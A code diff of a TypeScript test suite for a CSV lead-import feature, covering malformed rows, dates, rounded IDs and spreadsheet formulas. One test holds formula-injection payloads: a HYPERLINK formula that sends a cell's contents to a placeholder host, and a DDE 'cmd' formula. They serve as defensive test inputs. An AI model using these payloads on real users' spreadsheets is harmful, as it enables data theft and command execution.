@@ -51,8 +51,8 @@ const imported = async (content: string | Buffer | undefined, fields: object = {
   });
   return { sent, faults };
 };
-/** `line column code` of each fault, `id` of each command that was sent. */
-const told = async (...given: Parameters<typeof imported>) => {
+/** `line column code` of each fault, `id` of each command sent. */
+const resultOf = async (...given: Parameters<typeof imported>) => {
   const { sent, faults } = await imported(...given);
   const ids = sent.map(({ data }) => (data as { leadId: string }).leadId);
   return { faults: faults.map(({ line, column, code }) => `${line} ${column} ${code}`), sent: ids };
@@ -65,7 +65,7 @@ describe('a hostile file', () => {
     ['with a byte order mark', `\ufeff${lines}`],
     ['with lone carriage returns', lines.replaceAll('\n', '\r')],
   ])('%s is read', async (_, content) => {
-    expect(await told(content)).toEqual({ faults: [], sent: ['1', '2'] });
+    expect(await resultOf(content)).toEqual({ faults: [], sent: ['1', '2'] });
   });
 
   it.each([
@@ -83,9 +83,9 @@ describe('a hostile file', () => {
     await expect(imported(content)).rejects.toMatchObject({ code, path });
   });
 
-  it('is told row by row, with the place, and the good rows go on', async () => {
+  it('is reported row by row, with line and column, and the good rows are imported', async () => {
     const rows = ['id,name', '1,a', '2', '3,a,b', '4,\0', '5 "x",a', '6,b', '"7,a', '8,c'].join('\n');
-    expect(await told(rows)).toEqual({
+    expect(await resultOf(rows)).toEqual({
       faults: [
         '3  import/ragged-row',
         '4  import/ragged-row',
@@ -97,10 +97,10 @@ describe('a hostile file', () => {
     });
   });
 
-  it('of ten thousand columns is read, and a row of more is ragged', async () => {
+  it('of ten thousand columns is read, and a longer row is ragged', async () => {
     const columns = Array.from({ length: 10_000 }, (_, n) => `c${n}`).join(',');
     const cells = Array.from({ length: 10_000 }, (_, n) => n).join(',');
-    expect(await told(`id,name,${columns}\n1,a,${cells}\n2,b,${cells},one more\n`)).toEqual({
+    expect(await resultOf(`id,name,${columns}\n1,a,${cells}\n2,b,${cells},one more\n`)).toEqual({
       faults: ['3  import/ragged-row'],
       sent: ['1'],
     });
@@ -123,7 +123,7 @@ describe('a hostile file', () => {
     const before = held();
     let most = 0;
     const watch = setInterval(() => (most = Math.max(most, held() - before)), 1);
-    const answer = await told(undefined);
+    const answer = await resultOf(undefined);
     clearInterval(watch);
     expect(answer).toEqual({ faults: [`3  ${code}`], sent: ['1', '3'] });
     expect(most).toBeGreaterThan(0);
@@ -158,45 +158,47 @@ describe('a date', () => {
     ['a time of day without its day', '12:30', { date: 'iso', zone: 'UTC' }, '2 born import/not-a-date'],
   ])('%s', async (_, text, birthday, expected) => expect(await of(text, birthday)).toBe(expected));
 
-  it('of the fact itself is one on which it can have happened, also in a dry run', async () => {
+  it('of the occurrence must be a possible date, also in a dry run', async () => {
     const at = { occurredAt: { column: 'at', date: 'iso', zone: 'UTC' } };
     const days = ['1970-01-01', '1989-12-31', '2199-01-01', '1990-01-01'];
-    expect(await told(`id,name,at\n${days.map((day, n) => `${n},a,${day}`).join('\n')}\n`, at)).toEqual({
+    expect(await resultOf(`id,name,at\n${days.map((day, n) => `${n},a,${day}`).join('\n')}\n`, at)).toEqual({
       faults: ['2 at command/empty-date', '3 at command/too-early', '4 at command/in-the-future'],
       sent: ['3'],
     });
   });
 
-  it('of the fact itself is never guessed either', async () => {
-    expect(await told('id,name,at\n1,a,03/04/2024\n2,b,\n', { occurredAt: { column: 'at' } })).toEqual({
+  it('of the occurrence is never guessed', async () => {
+    expect(await resultOf('id,name,at\n1,a,03/04/2024\n2,b,\n', { occurredAt: { column: 'at' } })).toEqual({
       faults: ['2 at import/not-a-date', '3 at import/no-date'],
       sent: [],
     });
   });
 });
 
-describe('a cell that went through a spreadsheet', () => {
-  it('is refused as an id once it was rounded', async () => {
+describe('a cell changed by a spreadsheet', () => {
+  it('is refused as an id if it was rounded', async () => {
     const rows = 'id,name,crm\n\u200e1.23E+15,a,x\n2,b,"4,56e+11"\n3,1.23E+15,y\n1E5,c,2E7f\n';
-    expect(await told(rows, { externalId: { template: 'crm:{crm}' } })).toEqual({
+    expect(await resultOf(rows, { externalId: { template: 'crm:{crm}' } })).toEqual({
       faults: ['2 id import/rounded-id', '3 crm import/rounded-id'],
-      sent: ['3', '1E5'], // any other text may look like that, and any other id like itself
+      sent: ['3', '1E5'], // other text may look like that, and is a valid id
     });
   });
 
-  it('is refused where another lead is looked up by it', async () => {
+  it('is refused in a lookup by it', async () => {
     const lookup = { lookup: 'lead', externalId: { template: 'crm:{crm}' } };
-    expect((await told('id,name,crm\n1,a,1.23E+15\n', { leadId: lookup }, { key: ['name'] })).faults).toEqual([
+    expect((await resultOf('id,name,crm\n1,a,1.23E+15\n', { leadId: lookup }, { key: ['name'] })).faults).toEqual([
       '2 crm import/rounded-id',
     ]);
   });
 
   it('is refused as a number', async () => {
     const employees = { column: 'size', as: 'integer' };
-    expect((await told('id,name,size\n1,a,1.2E+03\n', { employees })).faults).toEqual(['2 size import/not-a-number']);
+    expect((await resultOf('id,name,size\n1,a,1.2E+03\n', { employees })).faults).toEqual([
+      '2 size import/not-a-number',
+    ]);
   });
 
-  it('is text where it is a formula: kept as it stands, never run, and in no report', async () => {
+  it('is kept as text if it is a formula: never run, and in no report', async () => {
     const formulas = ['=HYPERLINK(""http://x?""&A1)', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1)'];
     const rows = formulas.map((formula, n) => `${n},"${formula}",${n}`).join('\n');
     const { sent, faults } = await imported(`id,name,size\n${rows}\n9,x,=1+1\n`, {
